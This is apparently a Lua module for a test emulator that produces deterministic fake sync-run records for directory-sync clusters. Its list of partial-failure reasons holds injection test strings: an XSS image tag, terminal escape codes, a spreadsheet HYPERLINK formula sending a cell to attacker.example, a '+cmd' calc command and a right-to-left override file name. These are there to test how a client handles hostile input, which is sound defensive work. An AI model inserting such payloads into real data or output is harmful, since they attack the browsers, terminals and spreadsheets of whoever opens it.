--- The data that the emulator serves: clusters, and the records their identity sources left, one story a cluster.
-- Everything is computed from the seed and the start time, record by record, so a history of 300,000 costs nothing
-- until it is read. It must not use a clock or randomness: the supervisor and nginx each compute the clusters, and must
-- agree.
-- @module dwsync.emulator.stories
local cjson = require "cjson"
local digest = require "openssl.digest"

local M = {}

local SECOND, MINUTE, HOUR = 1000, 60 * 1000, 3600 * 1000

local BIND_REFUSED = "javax.naming.AuthenticationException: [LDAP: error code 49 - 80090308: LdapErr: DSID-0C090439, "
    .. "comment: AcceptSecurityContext error, data 52e, v4563]"

-- What real directories return, and what a careless reader chokes on.
local PARTIAL_REASONS = {
    "2 of 41 accounts skipped: name longer than 63 bytes",
    "user <img src=x onerror=alert(1)> rejected: <b>not</b> a valid role name",
    "\27[31mrole \"\27]0;owned\7svc_etl\" already exists\27[0m",
    '=HYPERLINK("http://attacker.example/?x="&A1,"details") is not a valid account name',
    "group mapping a|b|c failed | 3 members skipped",
    "first problem: duplicate mail attribute\nsecond problem: manager not found\r\n\tthird: Gr\195\188\195\159e "
        .. "\226\128\174gnp.exe",
    "+cmd|' /C calc'!A0: account name refused",
}

local function hash(...)
    return digest.new("sha256"):final(table.concat({ ... }, "/"))
end

-- A version 4 UUID from sixteen bytes: what the service's own ids look like. Written out in one format because this is
-- most of the work of making a record.
local function uuid(bytes)
    local a, b, c, d, e, f, g, h, i, j, k, l, m, n, o, p = bytes:byte(1, 16)
    return ("%04x%04x-%04x-4%03x-%04x-%04x%04x%04x"):format(a * 256 + b, c * 256 + d, e * 256 + f, (g * 256 + h) % 4096,
        32768 + (i * 256 + j) % 16384, k * 256 + l, m * 256 + n, o * 256 + p)
end

--- Makes an id that looks like a project's: 32 hexadecimal digits.
-- @tparam integer seed
-- @tparam string label
-- @treturn string
function M.hex_id(seed, label)
    return (hash(seed, label):sub(1, 16):gsub(".", function(byte) return ("%02x"):format(byte:byte()) end))
end

-- One quiet, successful run; stories change what makes them a story. `bytes` are the record's own 32 pseudo-random.
local function quiet_run(source, bytes, start)
    return {
        id = uuid(bytes),
        identity_source_id = source.id,
        identity_source_type = source.type,
        start_time = start,
        end_time = start + 20 * SECOND + (bytes:byte(17) * 256 + bytes:byte(18)),
        add_count = bytes:byte(19) % 4,
        update_count = bytes:byte(20) % 6,
        delete_count = bytes:byte(21) % 16 == 0 and 1 or 0,
        failed_count = 0,
        status = "FINISHED",
        fail_reason = cjson.null,
    }
end

local function fail(record, reason)
    record.status, record.fail_reason = "FAILED", reason
    record.add_count, record.update_count, record.delete_count = 0, 0, 0
    record.end_time = record.start_time + 3 * SECOND
end

-- A start time `ago` before the emulator's, a few seconds off the full interval as schedulers are.
local function start_of(context, ago, bytes)
    return context.started - ago + (bytes:byte(22) * 16)
end

local function source_of(context, kind, label)
    return { id = uuid(hash(context.seed, context.id, "source", label or kind)), type = kind }
end

-- A story is a function from its cluster's context {seed, id, started (ms), records} to the number of records and a
-- function from an index (0 is the newest) to a record. `shape` changes a quiet run.
local function regular(context, options)
    local source = source_of(context, options.type or "ldap")
    local newest = options.newest or 12 * MINUTE
    return options.count, function(index)
        local bytes = hash(context.seed, context.id, index)
        local record = quiet_run(source, bytes, start_of(context, newest + index * (options.interval or HOUR), bytes))
        if options.shape then
            options.shape(record, index, bytes)
        end
        return record
    end
end

local STORIES = {}

function STORIES.healthy(context)
    return regular(context, { count = 7 * 24 })
end

function STORIES.failing(context)
    return regular(context, { count = 7 * 24, shape = function(record, index)
        if index < 3 * 24 then
            fail(record, BIND_REFUSED)
        end
    end })
end

function STORIES.mass_delete(context)
    return regular(context, { count = 7 * 24, shape = function(record, index, bytes)
        if index == 0 then
            record.add_count, record.update_count = 0, 2
            record.delete_count = 470 + bytes:byte(23) % 20
            record.end_time = record.start_time + 4 * MINUTE
        elseif index == 7 * 24 - 1 then
            record.add_count, record.update_count, record.delete_count = 958, 0, 0 -- the first run brought everybody
        end
    end })
end

function STORIES.stuck(context)
    -- Hourly until it hung: nothing started after the run that never ended.
    return regular(context, { count = 5 * 24, newest = 9 * HOUR, shape = function(record, index, bytes)
        if index == 0 then
            record.status, record.end_time = "RUNNING", nil
            record.add_count, record.update_count, record.delete_count = 0, 0, 0
        else
            record.end_time = record.start_time + 110 * SECOND + bytes:byte(23) * 80
        end
    end })
end

function STORIES.partial(context)
    return regular(context, { count = 4 * 24, type = "oneaccess", shape = function(record, index, bytes)
        record.failed_count = 1 + bytes:byte(23) % 9
        record.update_count = record.update_count + 20
        record.fail_reason = PARTIAL_REASONS[index % #PARTIAL_REASONS + 1]
    end })
end

function STORIES.two_sources(context)
    local directory, aggregated = source_of(context, "ldap"), source_of(context, "oneaccess")
    -- The directory every hour, the aggregated source every two hours between them: three runs in two hours.
    local turns = { { directory, 0 }, { aggregated, 30 * MINUTE }, { directory, HOUR } }
    return 7 * 36, function(index)
        local bytes = hash(context.seed, context.id, index)
        local turn = turns[index % 3 + 1]
        local ago = 12 * MINUTE + math.floor(index / 3) * 2 * HOUR + turn[2]
        return quiet_run(turn[1], bytes, start_of(context, ago, bytes))
    end
end

function STORIES.never()
    return 0, function() error "this story has no records" end
end

STORIES.feature_off = STORIES.never

function STORIES.large(context)
    return regular(context, { count = context.records, interval = 10 * MINUTE, shape = function(record, index)
        if index % 97 == 96 then
            fail(record, "Read timed out after 30000 ms: ldaps://directory.example.com:636")
        end
    end })
end

M.names = { "healthy", "failing", "mass_delete", "stuck", "partial", "two_sources", "never", "feature_off", "large" }

--- Makes a cluster.
-- @tparam integer seed
-- @tparam string story
-- @tparam string name
-- @tparam ?string label distinguishes the cluster from those of the same name in other places
-- @treturn {id=string,name=string,story=string}
function M.cluster(seed, story, name, label)
    return { id = uuid(label and hash(seed, "cluster", label, name) or hash(seed, "cluster", name)), name = name,
        story = story }
end

--- Lists the clusters of one place.
-- @tparam table options `seed`, `stories` (false: none for the stories), `clusters` (how many healthy ones besides),
--   `label` (see @{cluster})
-- @treturn {{id=string,name=string,story=string},...}
function M.clusters(options)
    local list = {}
    local function add(name, story)
        list[#list + 1] = M.cluster(options.seed, story, name, options.label)
    end
    for _, story in ipairs(options.stories == false and {} or M.names) do
        add("dws-" .. story:gsub("_", "-"), story)
    end
    for number = 1, options.clusters do
        add(("bulk-%03d"):format(number), "healthy")
    end
    return list
end

--- Returns the records of one cluster.
-- @tparam {id=string,story=string} cluster
-- @tparam table options `seed`, `started` (milliseconds since the epoch) and `records` (length of the large story)
-- @treturn integer how many
-- @treturn function(index) → record as a table, cjson.null for null; index 0 is the newest
function M.records(cluster, options)
    return STORIES[cluster.story] {
        seed = options.seed, id = cluster.id, started = options.started, records = options.records,
    }
end

--- Makes a run like any other, for records that arrive while a client pages.
-- @tparam {id=string} cluster
-- @tparam table options `seed`
-- @tparam integer|string number distinct for each record that arrived
-- @tparam integer start milliseconds since the epoch
-- @tparam ?table like a record whose identity source the new one belongs to; none: the cluster's directory
-- @treturn table record
function M.arrival(cluster, options, number, start, like)
    local context = { seed = options.seed, id = cluster.id }
    local source = source_of(context, "ldap")
    if like then
        source = { id = like.identity_source_id, type = like.identity_source_type }
    end
    local record = quiet_run(source, hash(context.seed, context.id, "arrival", number), start)
    record.end_time = start + 1
    return record
end

-- ---- new runs by the clock -----------------------------------------------------------------------

-- A tick every `new_runs` seconds; in each, one healthy cluster of a hundred has its turn, which its id decides.
local ROUND = 100

local function first_turn(cluster)
    return (tonumber(cluster.id:sub(1, 8), 16) or 0) % ROUND + 1
end

--- Counts the runs that the clock has brought a cluster since the start.
-- @tparam {id=string,story=string} cluster
-- @tparam table options `started`, `new_runs` (seconds; nil: no such runs)
-- @tparam number now milliseconds since the epoch
-- @treturn integer
function M.turns(cluster, options, now)
    if not options.new_runs or cluster.story ~= "healthy" then
        return 0
    end
    local ticks = math.floor((now - options.started) / (options.new_runs * SECOND))
    return math.max(0, math.floor((ticks - first_turn(cluster)) / ROUND) + 1)
end

--- Makes one of these runs.
-- @tparam {id=string} cluster
-- @tparam table options `seed`, `started`, `new_runs`
-- @tparam integer number 1 is the first that came
-- @treturn table record
function M.turn(cluster, options, number)
    local tick = first_turn(cluster) + (number - 1) * ROUND
    local start = options.started + math.floor(tick * options.new_runs * SECOND)
    return M.arrival(cluster, options, "turn " .. number, start)
end

return M
